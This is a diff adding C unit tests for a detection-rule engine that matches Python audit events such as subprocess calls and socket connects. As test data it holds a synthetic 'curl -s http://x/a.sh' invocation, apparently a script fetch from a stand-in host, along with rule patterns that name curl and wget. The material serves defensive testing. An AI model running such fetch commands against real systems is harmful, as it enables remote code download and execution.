@@ -10,6 +10,8 @@
 #include <unistd.h>
 
 #include "check.h"
+#include "pyrec.h"
+#include "collect/pyevents.h"
 #include "cmd/rules_cmd.h"
 #include "detect/classify.h"
 #include "detect/pathclass.h"
@@ -603,6 +605,71 @@ static void test_match_kind(void)
 	CHECK(!fires("{\"kind\": [\"exec\", \"connect\", \"open\", \"dup\"]}", NULL, NULL));
 }
 
+/* kind python: audit names the event, args any argument (a list joined
+ * with spaces); scope python is a lineage that unpickled an unsafe global. */
+static void python_ev(u32 event, const struct pyrec_arg *a, u8 n, unsigned reason)
+{
+	static unsigned char buf[4096];
+	const char *why;
+	size_t len = pyrec_make(buf, 9, event, 0, a, n);
+
+	CHECK(event_decode(buf, len, &ev, &why) == 0);
+	classify_event(&ev, &net, NULL, &fa);
+	mark(reason, 1, 2);
+}
+
+static void test_match_python(void)
+{
+	const unsigned char port[8] = { 0x5c, 0x11 };
+	struct pyrec_arg popen[] = {
+		{ .enc = MLW_PY_ENC_NONE },
+		{ .enc = MLW_PY_ENC_SEQ,
+		  .bytes = "curl\0-s\0http://x/a.sh\0",
+		  .len = 22,
+		  .size = 3 },
+	};
+	struct pyrec_arg conn_ext[] = { PYSTR("203.0.113.9"),
+					{ .enc = MLW_PY_ENC_INT, .bytes = port, .len = 8 } };
+
+	python_ev(PYEV_SUBPROCESS_POPEN, popen, 2, MLW_MARK_PYTHON);
+	CHECK(fires("{\"kind\": \"python\"}", NULL, NULL));
+	CHECK(fires("{\"kind\": \"python\", \"audit\": [\"subprocess.*\"]}", NULL, NULL));
+	CHECK(!fires("{\"kind\": \"python\", \"audit\": [\"os.system\"]}", NULL, NULL));
+	CHECK(fires("{\"kind\": \"python\", \"args\": [\"curl *\"]}", NULL, NULL));
+	CHECK(fires("{\"kind\": \"python\", \"args\": [\"*http://x/*\"]}", NULL, NULL));
+	CHECK(!fires("{\"kind\": \"python\", \"args\": [\"wget*\"]}", NULL, NULL));
+	CHECK(fires("{\"kind\": \"python\", \"exe\": [\"python3*\"]}", NULL,
+		    "/usr/bin/python3.11"));
+	CHECK(fires("{\"kind\": \"python\"}", "\"scope\": \"python\"", NULL));
+	/* an exception on an argument */
+	CHECK(!fires("{\"kind\": \"python\"}", "\"except\": [{\"args\": [\"curl*\"]}]", NULL));
+	/* a lineage marked by a model file only: not scope python */
+	mark(MLW_MARK_MODEL, 1, 2);
+	CHECK(!fires("{\"kind\": \"python\"}", "\"scope\": \"python\"", NULL));
+	CHECK(fires("{\"kind\": \"python\"}", NULL, NULL));
+	/* dest holds for socket events */
+	python_ev(PYEV_SOCKET_CONNECT, conn_ext, 2, MLW_MARK_PYTHON);
+	CHECK(fires("{\"kind\": \"python\", \"dest\": [\"external\"]}", NULL, NULL));
+	CHECK(!fires("{\"kind\": \"python\", \"dest\": [\"internal\"]}", NULL, NULL));
+}
+
+static void test_error_python(void)
+{
+	CHECK(only_error(one_rule("{\"kind\": \"exec\", \"audit\": [\"os.system\"]}", NULL),
+			 "rules.json: rule \"r\": match.audit: applies to python events only, not exec"));
+	CHECK(only_error(one_rule("{\"kind\": \"python\", \"argv\": [\"x\"]}", NULL),
+			 "rules.json: rule \"r\": match.argv: applies to exec events only, not python"));
+	CHECK(only_error(one_rule("{\"kind\": \"python\", \"cidr\": [\"10.0.0.0/8\"]}", NULL),
+			 "rules.json: rule \"r\": match.cidr: applies to connect, dup and send events "
+			 "only, not python"));
+	CHECK(only_error(one_rule("{\"kind\": \"python\", \"args\": [\"[x\"]}", NULL),
+			 "rules.json: rule \"r\": match.args[0]: \"[x\" has an unterminated \"[\" "
+			 "(\"[[]\" matches a bracket)"));
+	CHECK(only_error(one_rule("{\"kind\": \"open\"}", "\"except\": [{\"kind\": \"open\", "
+							  "\"args\": [\"x\"]}]"),
+			 "rules.json: rule \"r\": except[0].args: applies to python events only, not open"));
+}
+
 static void test_match_path(void)
 {
 	const char *a[] = { "x" };
@@ -1081,6 +1148,8 @@ int main(void)
 	RUN(test_override_disable_extend);
 	RUN(test_override_must_be_whole);
 	RUN(test_match_kind);
+	RUN(test_match_python);
+	RUN(test_error_python);
 	RUN(test_match_path);
 	RUN(test_match_exe);
 	RUN(test_match_argv);
